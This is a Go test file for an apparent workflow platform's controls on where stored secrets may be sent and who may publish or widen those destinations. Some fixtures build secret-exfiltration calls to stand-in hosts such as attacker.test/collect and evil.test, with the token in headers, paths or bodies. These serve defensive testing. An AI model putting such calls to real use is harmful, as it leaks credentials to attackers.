package workflow_test

import (
	"context"
	"encoding/json"
	"fmt"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"atrium/ent"
	entsecret "atrium/ent/secret"
	"atrium/internal/op"
	"atrium/internal/platform/apperr"
	"atrium/internal/platform/principal"
	"atrium/internal/platform/store"
	"atrium/internal/secret"
	"atrium/internal/test/testkit"
	"atrium/internal/workflow"
)

// calling returns a definition with a phase that fetches where something goes to, and a call with this configuration.
func calling(t *testing.T, kind string, config map[string]any, lookUp string) workflow.Definition {
	t.Helper()
	raw, err := json.Marshal(map[string]any{
		"phases": []any{
			map[string]any{"id": "start", "type": "START"},
			map[string]any{"id": "lookup", "type": "API_CALL", "config": map[string]any{"method": "GET", "url": lookUp, "response": map[string]any{"host": "response.body.host"}}},
			map[string]any{"id": "call", "type": kind, "config": config}, map[string]any{"id": "end", "type": "END"},
		},
		"transitions": []any{
			map[string]any{"from": "start", "name": "next", "to": "lookup"}, map[string]any{"from": "lookup", "name": "next", "to": "call"},
			map[string]any{"from": "call", "name": "next", "to": "end"},
		},
	})
	require.NoError(t, err)
	return workflow.NewDefinition(raw)
}

const directory = "https://directory.test/hosts"

// posting is a call that sends the secret TOKEN to an address.
func posting(t *testing.T, url string) workflow.Definition {
	return calling(t, "API_CALL", map[string]any{"method": "POST", "url": url, "headers": map[string]any{"Authorization": "Bearer ${secrets.TOKEN}"}}, directory)
}

func secretFor(t *testing.T, w *testkit.World, name string, hosts ...string) *ent.Secret {
	t.Helper()
	return testkit.Run(t, w, w.As(w.A, principal.Owner), secret.CreateSecret, secret.CreateSecretInput{Name: name, Value: "x", AllowedHosts: hosts})
}

// A draft that sends a secret, in whatever part of a call, to a host that its list lacks is refused where the host is written, and names
// both. So is its publication, after the list became shorter. A host that an expression makes is a matter of the call.
func TestDraftsSendSecretsWhereTheyMayGo(t *testing.T) {
	t.Parallel()
	testkit.Each(t, func(t *testing.T, w *testkit.World) {
		ctx := w.As(w.A, principal.Admin)
		token := secretFor(t, w, "TOKEN", "api.shop.test", "*.erp.test", "bücher.test", "2001:db8::1")
		saved := 0
		save := func(d workflow.Definition) error {
			saved++
			return run(ctx, w, workflow.CreateWorkflow, workflow.CreateWorkflowInput{Name: fmt.Sprint("Calls ", saved), Definition: d})
		}
		for _, url := range []string{
			"https://api.shop.test/x", "https://API.Shop.test.:8443/${request.title}", "https://a.b.erp.test", "https://xn--bcher-kva.test/", "https://[2001:DB8:0::1]/?q=1",
			"https://${request.fields.shop}/x", "https://${request.fields.shop}.evil.test",
		} {
			require.NoError(t, save(posting(t, url)), url)
		}
		refused := func(err error, host string) {
			t.Helper()
			require.Equal(t, apperr.Validation, apperr.CodeOf(err), host)
			require.Equal(t, []apperr.Detail{{Field: "definition.phases[call].config.url", Message: "The secret TOKEN may not be sent to " + host + ", which its allowed hosts do not name."}}, apperr.From(err).Details)
		}
		for url, host := range map[string]string{
			"https://evil.test/api.shop.test": "evil.test", "https://erp.test/": "erp.test", "https://api.shop.test.evil.test/${request.title}": "api.shop.test.evil.test",
			"https://[2001:db8::2]/": "2001:db8::2", "https://evil.test:443?x=${request.title}": "evil.test",
		} {
			refused(save(posting(t, url)), host)
		}
		const evil = "https://evil.test/"
		for part, config := range map[string]map[string]any{
			"url":  {"method": "GET", "url": evil + "${secrets.TOKEN}"},
			"body": {"method": "POST", "url": evil, "body": map[string]any{"deep": []any{"${'a' + secrets.TOKEN}"}}},
		} {
			t.Log(part)
			refused(save(calling(t, "API_CALL", config, directory)), "evil.test")
		}
		refused(save(calling(t, "WEBHOOK_CALLOUT", map[string]any{"url": evil, "data": "${secrets.TOKEN}"}, directory)), "evil.test")
		refused(save(calling(t, "WEBHOOK_CALLOUT", map[string]any{"url": evil, "signingSecret": "${secrets.TOKEN}"}, directory)), "evil.test")

		id := op.ByID{ID: testkit.Run(t, w, ctx, workflow.CreateWorkflow, workflow.CreateWorkflowInput{Name: "Shop", Definition: posting(t, "https://api.shop.test/")}).ID}
		narrow := func(hosts ...string) {
			testkit.Run(t, w, ctx, secret.UpdateSecret, secret.UpdateSecretInput{ByID: op.ByID{ID: token.ID}, AllowedHosts: op.SetTo(hosts)})
		}
		narrow("*.erp.test")
		refused(run(ctx, w, workflow.PublishWorkflow, id), "api.shop.test")
		require.NoError(t, w.Store.Write(ctx, func(ctx context.Context, tx *store.Tx) error {
			return tx.Secret.Update().Where(entsecret.ID(token.ID)).ClearAllowedHosts().Exec(ctx)
		}))
		require.NoError(t, save(posting(t, evil)), "a secret from before there were hosts goes everywhere")
		require.NoError(t, run(ctx, w, workflow.PublishWorkflow, id))
	})
}

// who are callers that publish: a key without and with the scope, people whose sign-in is old and recent, and an application.
func who(w *testkit.World) map[string]context.Context {
	as := func(m principal.Method, ago time.Duration, scopes ...string) context.Context {
		p, _ := principal.From(w.As(w.A, principal.Admin))
		q := *p
		q.Method, q.AuthenticatedAt = m, w.Clock.Now().Add(-ago)
		if len(scopes) > 0 {
			q.Scopes, _ = principal.ParseScopes(scopes)
		}
		if m == principal.MethodAPIKey {
			q.KeyID, q.KeyName, q.AuthenticatedAt = "key_1", "Robot", time.Time{}
		}
		return principal.With(context.Background(), &q)
	}
	return map[string]context.Context{
		"workflows:write":                  as(principal.MethodAPIKey, 0, "workflows:write", "workflows:read"),
		"secrets:write":                    as(principal.MethodAPIKey, 0, "workflows:write", "workflows:read", "secrets:write"),
		"old":                              as(principal.MethodSession, time.Hour),
		"recent":                           as(principal.MethodSession, time.Minute),
		"an application's workflows:write": as(principal.MethodBearer, time.Minute, "workflows:write", "workflows:read"),
		"an application, old":              as(principal.MethodBearer, time.Hour, "workflows:write", "workflows:read", "secrets:write"),
	}
}

// Whoever may only write workflows cannot send a secret to where no published version has sent it: that takes the scope that secrets
// take or, of people, a recent proof. All else is published without.
func TestPublishingWhereSecretsGo(t *testing.T) {
	t.Parallel()
	testkit.Each(t, func(t *testing.T, w *testkit.World) {
		secretFor(t, w, "TOKEN", "*")
		secretFor(t, w, "OTHER", "*")
		by, admin := who(w), w.As(w.A, principal.Admin)
		id := op.ByID{ID: create(t, w, w.A, "Calls").ID}
		testkit.Run(t, w, by["workflows:write"], workflow.PublishWorkflow, id) // it sends nothing
		change := func(d workflow.Definition) {
			t.Helper()
			testkit.Run(t, w, by["workflows:write"], workflow.UpdateWorkflow, workflow.UpdateWorkflowInput{ByID: id, Definition: op.SetTo(d)})
		}
		refused := func(d workflow.Definition) {
			t.Helper()
			change(d)
			before := testkit.Run(t, w, admin, workflow.GetWorkflow, id).Version
			for caller, reason := range map[string]string{
				"workflows:write": "secrets:write", "an application's workflows:write": "secrets:write", "old": op.ReasonStale, "an application, old": op.ReasonStale,
			} {
				err := run(by[caller], w, workflow.PublishWorkflow, id)
				require.Equal(t, apperr.Forbidden, apperr.CodeOf(err), caller)
				require.Equal(t, reason, apperr.From(err).Reason, caller)
				require.Regexp(t, "^dec_", apperr.From(err).DecisionID)
			}
			require.Equal(t, before, testkit.Run(t, w, admin, workflow.GetWorkflow, id).Version)
		}
		taken := func(caller string, d workflow.Definition) {
			t.Helper()
			change(d)
			require.NoError(t, run(by[caller], w, workflow.PublishWorkflow, id), caller)
		}

		attack := posting(t, "https://attacker.test/collect")
		refused(attack)
		taken("recent", attack)
		refused(posting(t, "https://other.test/"))
		taken("secrets:write", posting(t, "https://shop.test/orders"))
		taken("old", posting(t, "https://SHOP.test:8443/orders/${request.title}?n=1")) // the same host
		taken("workflows:write", calling(t, "WEBHOOK_CALLOUT", map[string]any{"url": "https://shop.test/hook", "signingSecret": "${secrets.TOKEN}"}, directory))
		refused(calling(t, "WEBHOOK_CALLOUT", map[string]any{"url": "https://shop.test/hook", "data": "${secrets.TOKEN}", "signingSecret": "${secrets.OTHER}"}, directory))
		refused(posting(t, "https://${request.fields.shop}/orders"))
		taken("workflows:write", workflow.NewDefinition([]byte(straight)))
		refused(posting(t, "https://shop.test/orders")) // no version that is current sends it

		// A host that is made stays the same as long as all that makes it does.
		taken("recent", posting(t, "https://${request.fields.shop}.shop.test/orders"))
		taken("old", posting(t, "https://${request.fields.shop}.shop.test/others/${request.title}"))
		refused(posting(t, "https://${request.fields.other}.shop.test/orders"))
		refused(posting(t, "https://${request.fields.shop}.attacker.test/orders"))
		refused(posting(t, "https://${request.fields.shop}.shop.test${request.title}/orders"))
		looked := map[string]any{"method": "GET", "url": "https://${phases.lookup.host}/", "headers": map[string]any{"X-Key": "${secrets.TOKEN}"}}
		taken("recent", calling(t, "API_CALL", looked, directory))
		taken("old", calling(t, "API_CALL", map[string]any{"method": "GET", "url": looked["url"], "headers": looked["headers"], "retries": map[string]any{"max": 1}}, directory))
		refused(calling(t, "API_CALL", looked, "https://attacker.test/hosts"))

		testkit.Run(t, w, admin, workflow.UpdateWorkflow, workflow.UpdateWorkflowInput{ByID: id, Status: op.SetTo("archived"), Definition: op.SetTo(calling(t, "API_CALL", looked, directory))})
		testkit.Run(t, w, by["workflows:write"], workflow.UpdateWorkflow, workflow.UpdateWorkflowInput{ByID: id, Status: op.SetTo("active")})
	})
}

// More hosts take a proof of who adds them, fewer do not; * is more than none from before.
func TestWiderHostsTakeAProof(t *testing.T) {
	t.Parallel()
	testkit.Each(t, func(t *testing.T, w *testkit.World) {
		by := who(w)
		s := secretFor(t, w, "TOKEN", "a.test", "*.b.test")
		to := func(hosts ...string) secret.UpdateSecretInput {
			return secret.UpdateSecretInput{ByID: op.ByID{ID: s.ID}, AllowedHosts: op.SetTo(hosts)}
		}
		for _, hosts := range [][]string{{"a.test", "*.b.test", "c.test"}, {"*.a.test"}, {"b.test"}, {"*"}} {
			require.Equal(t, op.ReasonStale, apperr.From(run(by["old"], w, secret.UpdateSecret, to(hosts...))).Reason, hosts)
			require.Equal(t, "secrets:write", apperr.From(run(by["workflows:write"], w, secret.UpdateSecret, to(hosts...))).Reason, hosts)
		}
		more := to("a.test")
		more.Value = op.SetTo[secret.Value]("another")
		require.Equal(t, op.ReasonStale, apperr.From(run(by["old"], w, secret.UpdateSecret, more)).Reason, "a value is a value")
		require.NoError(t, run(by["old"], w, secret.UpdateSecret, to("A.test.", "x.b.test")))
		require.Equal(t, []string{"a.test", "x.b.test"}, testkit.Run(t, w, by["recent"], secret.GetSecret, op.ByID{ID: s.ID}).AllowedHosts)
		require.NoError(t, run(by["secrets:write"], w, secret.UpdateSecret, to("a.test", "c.test")))
		require.NoError(t, run(by["recent"], w, secret.UpdateSecret, to("*")))
		require.NoError(t, run(by["old"], w, secret.UpdateSecret, to("*", "z.test")), "it is everywhere already")

		require.NoError(t, w.Store.Write(by["recent"], func(ctx context.Context, tx *store.Tx) error {
			return tx.Secret.Update().Where(entsecret.ID(s.ID)).ClearAllowedHosts().Exec(ctx)
		}))
		require.Equal(t, op.ReasonStale, apperr.From(run(by["old"], w, secret.UpdateSecret, to("*"))).Reason)
		require.NoError(t, run(by["old"], w, secret.UpdateSecret, to("a.test")))

		for _, hosts := range [][]string{nil, {}, {""}, {"https://a.test"}, {"a.test:443"}} {
			err := run(by["recent"], w, secret.CreateSecret, secret.CreateSecretInput{Name: "NEW", Value: "x", AllowedHosts: hosts})
			require.Equal(t, apperr.Validation, apperr.CodeOf(err), hosts)
			require.Equal(t, "allowedHosts", apperr.From(err).Details[0].Field, hosts)
		}
	})
}
